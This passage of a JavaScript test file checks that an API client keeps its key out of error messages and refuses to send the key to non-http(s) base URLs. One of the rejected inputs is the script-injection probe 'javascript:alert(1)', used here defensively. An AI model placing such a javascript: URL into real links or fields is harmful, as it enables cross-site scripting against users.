    const error = await apiError(fetchSessionsPage(request(), impl), 'server');
    expect(performance.now() - started).to.be.below(1_000);
    expectNoKeyPiece(error.message);
    expect(error.message.length).to.be.below(400);
  });
});

describe('client: api-base that is not http(s), with a key', () => {
  it('also says the key is not sent there', async () => {
    for (const apiBase of ['ws://localhost:8787', 'ftp://127.0.0.1', 'javascript:alert(1)']) {
      const { impl, calls } = fakeFetch(() => json(okPage));
      const error = await apiError(fetchSessionsPage(request({ apiBase }), impl), 'config');
      expect(error.message).to.contain('api-base is not a valid http(s) URL');
      expect(error.message).to.contain('Refusing to send the API key');
      expect(calls).to.have.length(0);
    }
    const error = await apiError(
      fetchSessionsPage(request({ apiBase: 'ws://localhost', token: '' }), fakeFetch(() => json(okPage)).impl),
      'config',
    );
    expect(error.message).to.not.contain('API key');
  });
});
